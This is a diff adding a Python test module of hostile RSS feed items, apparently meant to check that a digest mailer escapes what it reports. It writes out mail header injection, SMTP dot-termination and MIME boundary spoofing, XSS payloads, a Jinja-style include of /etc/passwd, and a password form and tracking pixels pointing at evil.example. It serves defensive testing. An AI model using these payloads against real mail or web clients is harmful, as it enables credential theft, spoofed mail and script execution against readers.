@@ -1,0 +1,62 @@
+"""Hostile mail: titles, texts, authors and links made to break the digest that tells of them, or to act in its reader's client."""
+
+# ruff: noqa: E501  (a table: a case a line)
+
+from __future__ import annotations
+
+from hashlib import sha256
+from xml.sax.saxutils import escape
+
+from tests.hostile.bodies import Answer, feed, rss
+from tests.hostile.server import Case, case
+
+RALLY = "A rally was held in Almaty"
+"""What makes the rules flag the article, so that the digest tells of it; it must stand there whatever stands around it."""
+
+
+def told(title: str = RALLY, text: str = "", *, link: str = "", more: str = "") -> Answer:
+    """A feed of one flagged article in the feed's own words; nothing of ``title`` and ``text`` is markup to XML."""
+    # No two cases may tell the same: the digest would tell of them as one.
+    own = " ".join(f"witness {mark}" for mark in sha256(f"{title}{text}{link}{more}".encode("utf-8", "surrogatepass")).hexdigest()[:48])
+    said = f"{RALLY}. {text} The people went home in the evening, said {own}."
+    address = f"<link>{escape(link)}</link>" if link else "<guid isPermaLink='false'>1</guid>"
+    return feed(rss(f"<item><title>{escape(title)}</title>{address}<description>{escape(escape(said))}</description>{more}</item>"))
+
+
+def case_(name: str, does: str, answer: Answer, right: str = "new", **more: object) -> Case:
+    return case("mail", name, does, right, answer, **more)
+
+
+CASES: tuple[Case, ...] = (
+    case_("crlf", "slips a header in by CR LF", told(f"{RALLY}\r\nBcc: all@example.org\r\nX-Evil: yes")),
+    case_("lf", "slips a header in by LF", told(f"{RALLY}\nBcc: all@example.org\n\nA body of my own")),
+    case_("references", "slips a header in by character references", feed(rss(f"<item><title>{RALLY}&#13;&#10;Bcc: all@example.org</title><guid isPermaLink='false'>1</guid><description>{RALLY}. Twice the people came.</description></item>"))),
+    case_("nel", "slips a header in by the line ends of Unicode", told(f"{RALLY}\u2028Bcc: all@example.org\u2029X: y\x85Z: w\x0bV: u\x0cT: s")),
+    case_("dot", "ends the mail by a dot on a line", told(text="\n.\n.\r\nMAIL FROM:<evil@example.org>\r\n.\n")),
+    case_("from", "begins lines as a mailbox file does", told(text="\nFrom evil@example.org Sun Nov 22\n>From here on\n")),
+    case_("boundary", "plays a boundary of a mail of parts", told(text="\n--===============0==\nContent-Type: text/html\n\n<b>evil</b>\n--===============0==--\n")),
+    case_("encoded-word", "plays an encoded word", told(f"=?utf-8?q?{RALLY.replace(' ', '_')}=0D=0ABcc:_all@example.org?= {RALLY}")),
+    case_("encoded-cut", "plays an encoded word that never ends", told(f"{RALLY} =?utf-8?b?" + "QQ" * 60)),
+    case_("megabyte", "has a title of a megabyte", told(f"{RALLY} " + "and again " * 100_000)),
+    case_("megabyte-word", "has a title of one word of a megabyte", told(f"{RALLY} " + "a" * 1_000_000)),
+    case_("text-megabyte", "has a text of a megabyte without a full stop", told(text="and so on " * 100_000)),
+    case_("text-word", "has a text of one word of a megabyte", told(text="щ" * 500_000)),
+    case_("bidi", "turns its title around", told(f"{RALLY} \u202egnihton fo\u202c \u2066\u2067x\u2069")),
+    case_("bidi-open", "turns all that follows around", told(f"\u202e\u2067{RALLY}")),
+    case_("script", "has script in its title and text", told(f"<script>alert(1)</script>{RALLY}<img src=x onerror=alert(1)>", "<svg/onload=alert(1)><style>*{display:none}</style>")),
+    case_("html", "closes the digest's own elements", told(f"</a></td></tr></table></body></html>{RALLY}<!--", "--></div><form action=http://evil.example><input name=password>")),
+    case_("image", "counts readers by an image", told(f"{RALLY} <img src='http://evil.example/pixel.gif'>", "<link rel=stylesheet href=http://evil.example/x.css><iframe src=http://evil.example>")),
+    case_("escaped", "has markup escaped three times", told("&lt;script&gt;alert(1)&lt;/script&gt; " + RALLY, "&amp;lt;b onclick=x&amp;gt;")),
+    case_("template", "speaks the template's language", told(f"{{{{ 7 * 7 }}}} {RALLY} {{% include '/etc/passwd' %}}{{# #}}", "{{ config }}"), lacks=("root:",)),
+    case_("css", "speaks style", told(f'{RALLY}" style="position:fixed', "} body { display: none } .x {")),
+    case_("phish", "plays a link in text", told(f"{RALLY} https://sholu.example.org/login [click](javascript:alert(1))")),
+    case_("link-script", "links to a script", told(link="javascript:alert(1)")),
+    case_("link-user", "links with a user name that looks like a host", told(link="https://bank.example@evil.example/"), "new|failed"),
+    case_("link-quote", "links out of its attribute", told(link='https://evil.invalid/"><script>alert(1)</script>'), "new|failed"),
+    case_("author", "has an author that is a header", told(more="<author>x@y.example&#10;Bcc: all@example.org (Evil)</author>")),
+    case_("control", "has control characters and NUL", told(f"\x00\x07\x1b[31m{RALLY}\x7f\x9b", "\x08\x08\x08\x1b]0;x\x07")),
+    case_("surrogates", "has lone surrogates and characters that are none", told(f"{RALLY} \ud83d \udc00 \ufffe\uffff")),
+    case_("zalgo", "puts thousands of marks on a letter", told(f"{RALLY} e" + "\u0301" * 5_000)),
+    case_("emoji", "is a thousand emoji joined into one", told(f"{RALLY} " + "\U0001f468\u200d" * 1_000)),
+    case_("empty", "has a title of nothing visible", told("\u200b\u3164\u00ad")),
+)  # fmt: skip
